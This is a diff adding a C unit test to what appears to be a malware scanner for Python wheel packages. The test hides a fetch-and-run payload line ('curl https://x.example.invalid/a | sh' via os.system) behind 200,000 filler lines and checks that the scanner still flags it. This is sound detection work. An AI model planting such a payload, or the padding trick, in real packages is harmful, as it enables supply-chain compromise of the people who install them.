@@ -248,6 +248,41 @@ names_bare_addresses(void **state)
 	features_release(&f);
 }
 
+/* A payload behind megabytes, a long text among them, is read all the same. */
+static void
+reads_large_sources_whole(void **state)
+{
+	const struct inspect_tools *t = *state;
+	static const char last[] = "import os\nos.system('curl https://"
+	    "x.example.invalid/a | sh')\n";
+	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
+	    PACKAGE_WHEEL };
+	struct buf b = BUF_EMPTY;
+	struct features f = { 0 };
+	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);
+	struct entry e = { .path = "a/__init__.py", .inner = "a/__init__.py" };
+	uint32_t line = 0;
+
+	for (int i = 0; i < 100000; i++)
+		buf_adds(&b, "x = y(z)\n");
+	buf_adds(&b, "TEXT = \"\"\"\n");
+	for (int i = 0; i < 100000; i++)
+		buf_adds(&b, "import this as text\n");
+	buf_adds(&b, "\"\"\"\n");
+	buf_adds(&b, last);
+	e.data = (const uint8_t *)b.data;
+	e.size = b.len;
+	inspection_entry(in, &e);
+	inspection_end(in);
+	inspection_free(in);
+	for (size_t i = 0; i < f.nfindings; i++)
+		if (str_equal(f.findings[i].rule, "run-hidden-command"))
+			line = f.findings[i].line;
+	assert_int_equal(line, 200004);
+	features_release(&f);
+	buf_release(&b);
+}
+
 /* Both tables are searched by their order. */
 static void
 tables_are_sorted(void **state)
@@ -382,6 +417,7 @@ main(void)
 		cmocka_unit_test(knows_contexts),
 		cmocka_unit_test(peels_layers),
 		cmocka_unit_test(names_layers_and_addresses),
+		cmocka_unit_test(reads_large_sources_whole),
 		cmocka_unit_test(tables_are_sorted),
 		cmocka_unit_test(names_bare_addresses),
 		cmocka_unit_test(hears_declared_relations),
